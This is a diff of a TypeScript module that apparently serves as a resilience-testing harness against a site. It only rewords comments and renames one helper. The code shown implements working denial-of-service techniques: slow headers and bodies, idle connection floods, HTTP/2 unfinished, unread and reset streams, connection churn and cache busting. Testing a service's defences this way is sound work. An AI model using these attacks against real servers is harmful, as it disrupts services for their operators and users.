@@ -11,10 +11,10 @@ import {
   type AttackKind,
 } from './attack.ts';
 
-/** How many connections an attacker holds, unless the kind says otherwise. */
+/** Connections of an attacker, unless its kind sets another number. */
 const CONNECTIONS = 300;
 const IDLE_CONNECTIONS = 1_000;
-/** Attackers that ask as fast as they are answered. */
+/** Parallel loops of the attacks that connect or request as fast as they can. */
 const WORKERS = 50;
 
 const GET = `GET /products HTTP/1.1\r\nHost: ${SITE}\r\n`;
@@ -23,7 +23,7 @@ const GET = `GET /products HTTP/1.1\r\nHost: ${SITE}\r\n`;
 const idleConnections: Attack = (context) =>
   keepOpen(context, IDLE_CONNECTIONS, (socket) => untilClosed(socket, context));
 
-/** Requests whose headers come a byte a second and never end. */
+/** Requests whose headers arrive at a byte per second and never end. */
 const slowHeaders: Attack = (context) =>
   keepOpen(context, CONNECTIONS, (socket) => {
     context.counts.sent += 1;
@@ -31,7 +31,7 @@ const slowHeaders: Attack = (context) =>
     return untilClosed(socket, context, () => socket.write('a'));
   });
 
-/** Requests whose body comes a byte a second and never ends. */
+/** Requests whose body arrives at a byte per second and does not end in time. */
 const slowBodies: Attack = (context) =>
   keepOpen(context, CONNECTIONS, (socket) => {
     context.counts.sent += 1;
@@ -41,7 +41,7 @@ const slowBodies: Attack = (context) =>
     return untilClosed(socket, context, () => socket.write('a'));
   });
 
-/** Connections over HTTP/2 that open streams: requests without an end, responses that may not be sent, and streams that are reset at once. */
+/** HTTP/2 connections, and streams on each: requests without an end, responses that flow control blocks, and streams that are reset at once. */
 const SESSIONS = 10;
 const STREAMS = 100;
 
@@ -50,12 +50,12 @@ type Abuse = 'unfinished' | 'unread' | 'reset';
 const http2Streams: Attack = (context) => keepSessions(context, ['unfinished', 'unread', 'reset']);
 
 /**
- * Responses that may not be sent. Over HTTP/2 a client that takes nothing says so beforehand; over HTTP/1 the kernels take about sixty pages of this
- * site for each connection (360 KB, measured), and the limit of requests allows hardly more than a dozen such connections.
+ * Responses that flow control blocks: an HTTP/2 client announces a window of 0 beforehand. Over HTTP/1, the kernels buffer about sixty pages of this
+ * site for each connection (360 KB, measured), and the request limit allows hardly more than a dozen such connections.
  */
 const slowReaders: Attack = (context) => keepSessions(context, ['unread']);
 
-/** Keeps {@link SESSIONS} connections over HTTP/2, each abused in one of these ways. */
+/** Keeps {@link SESSIONS} HTTP/2 connections, each with one of these kinds of abuse. */
 async function keepSessions(context: AttackContext, ways: readonly [Abuse, ...Abuse[]]): Promise<void> {
   await Promise.all(
     Array.from({ length: SESSIONS }, async (_, index) => {
@@ -101,10 +101,10 @@ async function abuseSession(context: AttackContext, how: Abuse): Promise<void> {
     session.destroy();
   };
   signal.addEventListener('abort', end, { once: true });
-  // Everything about the session changes while this waits.
-  const isOver = (): boolean => session.closed || session.destroyed || signal.aborted;
-  while (!isOver()) {
-    for (let count = 0; count < STREAMS && !isOver(); count += 1) {
+  // A function, because the session changes while this waits.
+  const hasEnded = (): boolean => session.closed || session.destroyed || signal.aborted;
+  while (!hasEnded()) {
+    for (let count = 0; count < STREAMS && !hasEnded(); count += 1) {
       counts.sent += 1;
       const method = how === 'unfinished' ? 'POST' : 'GET';
       const stream = session.request(
@@ -125,14 +125,14 @@ async function abuseSession(context: AttackContext, how: Abuse): Promise<void> {
   await closed;
 }
 
-/** Connections that are closed as soon as they are there. */
+/** Connections that are closed as soon as they are established. */
 const connectionRate: Attack = async (context) => {
   const { signal } = context;
   await Promise.all(
     Array.from({ length: WORKERS }, async () => {
       while (!signal.aborted) {
         const socket = await open(context);
-        // Node resets no connection below TLS.
+        // Node cannot reset the TCP connection below TLS.
         if (context.target.isTls) socket?.destroy();
         else socket?.resetAndDestroy();
         await pause(5, signal);
@@ -141,7 +141,7 @@ const connectionRate: Attack = async (context) => {
   );
 };
 
-/** Pages under addresses that nobody has asked for: each is fetched from the origin. */
+/** Pages with unique URLs, so that each is a cache miss. */
 const cacheBusting: Attack = async (context) => {
   const { counts, signal } = context;
   await keepOpen(context, WORKERS, async (socket) => {
@@ -155,7 +155,7 @@ const cacheBusting: Attack = async (context) => {
   });
 };
 
-/** Whether a whole response came: it ends with the last bytes of a page. */
+/** Whether a complete response arrived: it ends with the last bytes of a page. */
 function readResponse(socket: NonNullable<Awaited<ReturnType<typeof open>>>, context: AttackContext): Promise<boolean> {
   const { counts, signal } = context;
   return new Promise((resolve) => {
